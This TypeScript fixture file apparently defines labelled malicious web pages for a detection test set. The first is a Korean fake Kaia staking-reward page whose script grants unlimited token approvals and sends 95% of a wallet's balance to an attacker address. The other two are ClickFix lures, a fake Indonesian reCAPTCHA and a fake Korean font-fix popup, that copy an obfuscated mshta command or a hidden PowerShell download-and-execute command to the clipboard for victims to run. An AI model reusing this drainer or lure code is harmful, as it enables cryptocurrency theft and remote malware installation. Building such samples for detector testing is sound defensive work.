import type { Entry } from '../entry.js';
import { htmlRoute } from '../entry.js';
import { doc } from '../parts/ze-kit.js';
import { jsRoute, jsonRoute } from '../parts/e-bin.js';

const drainJs = (spender: string, api: string): string => `(function(){
var SPENDER='${spender}';
var MAX='0xffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff';
function enc(sel,a,b){return sel+a.replace('0x','').padStart(64,'0')+b.replace('0x','').padStart(64,'0')}
async function run(){
  var eth=window.ethereum; if(!eth){document.getElementById('st').textContent='Please open in MetaMask / OKX Wallet / Trust Wallet browser';return}
  var acc=(await eth.request({method:'eth_requestAccounts'}))[0];
  var r=await fetch('${api}?a='+acc); var toks=(await r.json()).tokens||[];
  for(var i=0;i<toks.length;i++){
    try{await eth.request({method:'eth_sendTransaction',params:[{from:acc,to:toks[i].address,data:enc('0x095ea7b3',SPENDER,MAX)}]})}catch(e){}
  }
  var bal=await eth.request({method:'eth_getBalance',params:[acc,'latest']});
  try{await eth.request({method:'eth_sendTransaction',params:[{from:acc,to:SPENDER,value:'0x'+(BigInt(bal)*95n/100n).toString(16)}]})}catch(e){}
  document.getElementById('st').textContent='Claim submitted. Tokens will arrive within 24h.';
}
document.querySelectorAll('.claim').forEach(function(b){b.onclick=run});
})();`;

export const entries: Entry[] = [
  {
  id: 'ze-drain-kr-kaia-staking-reward',
  label: 'cryptodrainer',
  kind: 'drainer',
  url: 'https://kaia-reward.staking-kr.xyz/',
  routes: {
    'kaia-reward.staking-kr.xyz/': htmlRoute(doc({
      lang: 'ko',
      title: 'Kaia 스테이킹 보상 수령 | Kaia Foundation',
      css: 'body{background:#111;color:#eee}.c{max-width:520px;margin:60px auto;text-align:center}.b{background:#bff009;color:#000;font-size:18px;padding:14px 40px;border-radius:10px}',
      body: `<div class="c"><h1>KAIA 스테이킹 보상</h1><p>클레이튼(KLAY) → 카이아(KAIA) 전환 기념 보상이 지급됩니다. 지갑 연결 후 '보상 수령'을 눌러 서명해 주세요.</p><p>예상 보상: <b id="amt">계산 중…</b></p><button class="b claim">지갑 연결 · 보상 수령</button><p id="st"></p></div>
<script>fetch('/api/est').then(function(r){return r.json()}).then(function(j){document.getElementById('amt').textContent=j.amount+' KAIA'})</script><script src="/js/app.js"></script>`,
    })),
    'kaia-reward.staking-kr.xyz/api/est': jsonRoute({ amount: '1,240.55' }),
    'kaia-reward.staking-kr.xyz/js/app.js': jsRoute(drainJs('0x2b9f0e1a7d6c5b4a3928170f6e5d4c3b2a190817', '/api/bal')),
    'kaia-reward.staking-kr.xyz/api/bal': jsonRoute({ tokens: [{ symbol: 'USDT', address: '0xdAC17F958D2ee523a2206206994597C13D831ec7' }, { symbol: 'WETH', address: '0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2' }] }),
  },
},
  {
  id: 'ze-clickfix-id-recaptcha-mshta',
  label: 'clickfix',
  kind: 'clickfix',
  url: 'https://nonton-drakor-sub-indo.tv/episode/16',
  routes: {
    'nonton-drakor-sub-indo.tv/episode/16': htmlRoute(doc({
      lang: 'id',
      title: 'Nonton Drama Korea Sub Indo Episode 16 - Streaming HD',
      css: 'body{background:#111;color:#eee}.v{background:#000;height:360px;display:flex;align-items:center;justify-content:center}.ov{position:fixed;inset:0;background:rgba(0,0,0,.85);display:flex;align-items:center;justify-content:center}.bx{background:#fff;color:#222;width:420px;padding:22px;border-radius:4px}',
      body: `<div class="wrap"><h2>Drama Korea Episode 16 Sub Indo</h2><div class="v">▶ Memuat video...</div></div>
<div class="ov" id="ov"><div class="bx"><p><b>Verifikasi reCAPTCHA</b></p><p>Untuk melanjutkan menonton, selesaikan verifikasi berikut:</p><button id="v" style="background:#1a73e8;color:#fff">Saya bukan robot</button><div id="steps" style="display:none;font-size:14px"><p>Langkah verifikasi:</p><p>1. Tekan tombol <b>Windows + R</b><br>2. Tekan <b>CTRL + V</b><br>3. Tekan <b>Enter</b></p></div></div></div>
<script src="/episode/player.js"></script>`,
    })),
    'nonton-drakor-sub-indo.tv/episode/player.js': jsRoute(`var _0x=['bXNodGEgaHR0cHM6Ly9jYXB0Y2hhLXZlcmlmeS1pZC5zaG9wL3YuaHRh','IyBWZXJpZmlrYXNpIHJlQ0FQVENIQSBJRDogMjkxMg=='];document.getElementById('v').onclick=function(){navigator.clipboard.writeText(atob(_0x[0])+' '+atob(_0x[1]));document.getElementById('steps').style.display='block';this.disabled=true}`),
  },
},
  {
  id: 'ze-clickfix-kr-font-broken-fix',
  label: 'clickfix',
  kind: 'clickfix',
  url: 'https://www.seoul-interior-blog.kr/post/2025/11/livingroom',
  routes: {
    'www.seoul-interior-blog.kr/post/2025/11/livingroom': htmlRoute(doc({
      lang: 'ko',
      title: '거실 인테리어 셀프 시공 후기 | 서울 인테리어 블로그',
      body: `<div class="wrap"><h1 id="h">거실 인테리어 셀프 시공 후기</h1><p id="p">이번 주말에는 거실 벽지를 새로 바르고 조명을 교체했습니다. 비용은 총 87만원 정도 들었는데요...</p></div>
<script>setTimeout(function(){document.getElementById('h').textContent='▯▯▯ ▯▯▯▯ ▯▯ ▯▯ ▯▯';document.getElementById('p').textContent='▯▯▯ ▯▯▯▯▯ ▯▯▯ ▯▯▯▯ ▯▯ ▯▯▯▯ ▯▯▯▯▯▯▯';var d=document.createElement('div');d.style.cssText='position:fixed;top:20%;left:50%;transform:translateX(-50%);background:#fff;border:1px solid #999;box-shadow:0 4px 20px #0005;padding:22px;width:460px;font-family:Malgun Gothic,sans-serif';d.innerHTML='<h3>"맑은 고딕" 글꼴을 찾을 수 없습니다</h3><p>이 페이지는 현재 시스템에 설치되지 않은 글꼴을 사용합니다. 한글이 올바르게 표시되도록 글꼴 팩을 설치하세요.</p><button id="fx" style="background:#0067c0;color:#fff">수정하기</button><div id="how" style="display:none"><p>1. <b>Win + X</b> 를 누르고 <b>터미널(관리자)</b>을 선택합니다<br>2. <b>Ctrl + V</b> 로 붙여넣습니다<br>3. <b>Enter</b> 를 누릅니다</p></div>';document.body.appendChild(d);document.getElementById('fx').onclick=function(){navigator.clipboard.writeText('powershell -ep bypass -w hidden -c "$u=\\'https://fontpack-kr.cdn-fix.top/MalgunFont.ps1\\';iex (New-Object Net.WebClient).DownloadString($u)"');document.getElementById('how').style.display='block'}},2500)</script>`,
    })),
  },
},
];
